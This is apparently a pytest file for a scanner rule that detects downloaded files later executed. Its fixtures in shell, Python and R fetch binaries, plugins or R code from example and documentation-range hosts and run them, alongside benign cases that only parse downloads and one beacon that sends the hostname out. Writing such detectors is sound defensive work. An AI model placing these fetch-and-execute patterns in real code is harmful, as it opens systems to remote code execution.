"""A download saved to a file the code then runs, where the file's name or the download's address is
put together in a way the readers did not follow: a shell path whose default is a command's output
(``${1:-$(date +%Y)}``), a Python response copied into an open file by ``shutil.copyfileobj`` in a
helper whose first return is a guard's ``None``, R's ``paste(…, sep = ".")`` building the host and
``source()`` of an address pasted from pieces."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors, scan_findings


def test_shell_path_with_a_command_output_default_is_the_same_file_when_run(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/sync.sh": "#!/bin/sh\n"
            'STAMP="${2:-$(date +%s)}"\n'
            'TOOL="${TMPDIR:-/tmp}/ledger-sync-${STAMP}"\n'
            'wget -q -O "$TOOL" "https://fetch.ledgerline.example/bin/sync"\n'
            'chmod 700 "$TOOL"\n'
            '"$TOOL" --apply\n'
        },
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/sync.sh", 6) in errors


def test_shell_download_to_such_a_path_only_read_is_not_run(tmp_path: Path) -> None:
    findings = scan_findings(
        tmp_path,
        {
            "scripts/rates.sh": "#!/bin/sh\n"
            'DAY="${1:-$(date +%F)}"\n'
            'OUT="${TMPDIR:-/tmp}/rates-${DAY}.json"\n'
            'curl -fsS -o "$OUT" "https://api.ratesboard.example/v1/daily"\n'
            'jq .rates "$OUT"\n'
        },
    )
    assert not [f for f in findings if f.severity.value == "error"]


def test_python_response_copied_into_a_file_by_a_guarded_helper_then_run(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "scripts/warm.py": "import os, shutil, subprocess, tempfile, urllib.request\n"
            "\n"
            "def save(address, target):\n"
            "    with urllib.request.urlopen(address) as resp, open(target, 'wb') as out:\n"
            "        shutil.copyfileobj(resp, out)\n"
            "\n"
            "def helper(address):\n"
            "    if not address:\n"
            "        return None\n"
            "    target = os.path.join(tempfile.gettempdir(), '.warmer')\n"
            "    save(address, target)\n"
            "    os.chmod(target, 0o755)\n"
            "    return target\n"
            "\n"
            "def main(address):\n"
            "    runner = helper(address)\n"
            "    if runner:\n"
            "        subprocess.call([runner, '--prime'])\n"
        },
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/warm.py", 18) in errors


def test_python_response_copied_into_a_file_and_parsed_is_not_run(tmp_path: Path) -> None:
    findings = scan_findings(
        tmp_path,
        {
            "scripts/table.py": "import json, shutil, urllib.request\n"
            "\n"
            "def cached(address, target):\n"
            "    if not address:\n"
            "        return None\n"
            "    with urllib.request.urlopen(address) as resp, open(target, 'wb') as out:\n"
            "        shutil.copyfileobj(resp, out)\n"
            "    return target\n"
            "\n"
            "path = cached('https://data.tariffhub.example/t.json', '/tmp/t.json')\n"
            "print(json.load(open(path)))\n"
        },
    )
    assert not [f for f in findings if f.severity.value == "error"]


def test_r_host_pasted_with_a_separator_and_code_sourced_from_pieces(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "R/plots.R": ".init <- function() {\n"
            '  root <- paste0("https://", paste("assets", "plotkit-r", "example", sep = "."), "/lib/")\n'
            '  for (part in c("a.R", "b.R")) source(paste0(root, part))\n'
            '  bin <- file.path(tempdir(), ".pk")\n'
            '  download.file(paste0(root, "pk-helper"), bin, mode = "wb")\n'
            '  Sys.chmod(bin, "0700")\n'
            "  system2(bin, wait = FALSE)\n"
            "}\n"
            ".init()\n"
        },
    )
    assert ("DOWNLOAD_AND_RUN", "R/plots.R", 3) in errors
    assert ("DOWNLOAD_AND_RUN", "R/plots.R", 7) in errors


def test_r_local_file_sourced_from_pieces_is_not_a_download(tmp_path: Path) -> None:
    findings = scan_findings(
        tmp_path,
        {
            "R/load.R": 'here <- paste("R", "helpers", sep = "/")\n'
            'for (part in c("a.R", "b.R")) source(file.path(here, part))\n'
            'source(paste0(here, "/c.R"))\n'
        },
    )
    assert not [f for f in findings if f.severity.value == "error"]


def test_python_module_loaded_from_a_helper_returning_a_bundled_file_or_a_download(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "tools/plugins.py": "import importlib.util, pathlib, requests\n"
            "\n"
            "HERE = pathlib.Path(__file__).parent / 'plugins'\n"
            "STORE = pathlib.Path.home() / '.local/share/quanta/plugins'\n"
            "\n"
            "def locate(plugin):\n"
            "    bundled = HERE / (plugin + '.py')\n"
            "    if bundled.is_file():\n"
            "        return bundled\n"
            "    saved = STORE / (plugin + '.py')\n"
            "    saved.write_text(requests.get('https://plugins.quanta-hub.example/' + plugin).text)\n"
            "    return saved\n"
            "\n"
            "def activate(plugin):\n"
            "    where = locate(plugin)\n"
            "    spec = importlib.util.spec_from_file_location('quanta_' + plugin, where)\n"
            "    module = importlib.util.module_from_spec(spec)\n"
            "    spec.loader.exec_module(module)\n"
            "    return module\n"
        },
    )
    assert ("DOWNLOAD_AND_RUN", "tools/plugins.py", 16) in errors


def test_python_module_loaded_from_a_helper_returning_bundled_files_only(tmp_path: Path) -> None:
    findings = scan_findings(
        tmp_path,
        {
            "tools/plugins.py": "import importlib.util, pathlib, requests\n"
            "\n"
            "HERE = pathlib.Path(__file__).parent / 'plugins'\n"
            "\n"
            "def locate(plugin):\n"
            "    bundled = HERE / (plugin + '.py')\n"
            "    if bundled.is_file():\n"
            "        return bundled\n"
            "    return HERE / 'default.py'\n"
            "\n"
            "def activate(plugin):\n"
            "    index = requests.get('https://plugins.quanta-hub.example/index.json').json()\n"
            "    spec = importlib.util.spec_from_file_location('quanta_' + plugin, locate(plugin))\n"
            "    module = importlib.util.module_from_spec(spec)\n"
            "    spec.loader.exec_module(module)\n"
            "    return module, index\n"
        },
    )
    assert not [f for f in findings if f.severity.value == "error"]


def test_shell_download_from_an_address_read_at_run_time_with_the_platform_in_it_is_run(tmp_path: Path) -> None:
    """``curl "$base/agent-$(uname -s)" -o F``: the address holds the machine's name and is read from a
    file at run time, but ``-o`` keeps the answer, so running ``F`` runs a download."""
    script = (
        "#!/bin/sh\n"
        'lookup() { grep "^$1 " "$(dirname "$0")/../.tool-versions" | cut -d\' \' -f2; }\n'
        "base=$(lookup syncd-mirror)\n"
        'bin="$HOME/.local/lib/syncd/syncd-$(uname -s)"\n'
        'curl -fsSL "$base/syncd-$(uname -s)-$(uname -m)" -o "$bin"\n'
        'chmod +x "$bin"\n'
        '"$bin" --background\n'
    )
    errors = scan_errors(
        tmp_path, {"scripts/setup.sh": script, ".tool-versions": "syncd-mirror http://203.0.113.9/d\n"}
    )
    assert ("DOWNLOAD_AND_RUN", "scripts/setup.sh", 7) in errors


def test_shell_send_of_the_machine_name_to_a_run_time_address_is_not_a_download(tmp_path: Path) -> None:
    """Without ``-o`` nothing is kept: a beacon, not a download (nothing is run)."""
    script = '#!/bin/sh\nbase=$(cat endpoint.txt)\ncurl -fsS "$base/ping/$(hostname)"\n'
    errors = scan_errors(tmp_path, {"scripts/ping.sh": script})
    assert not any(rule == "DOWNLOAD_AND_RUN" for rule, _, _ in errors)
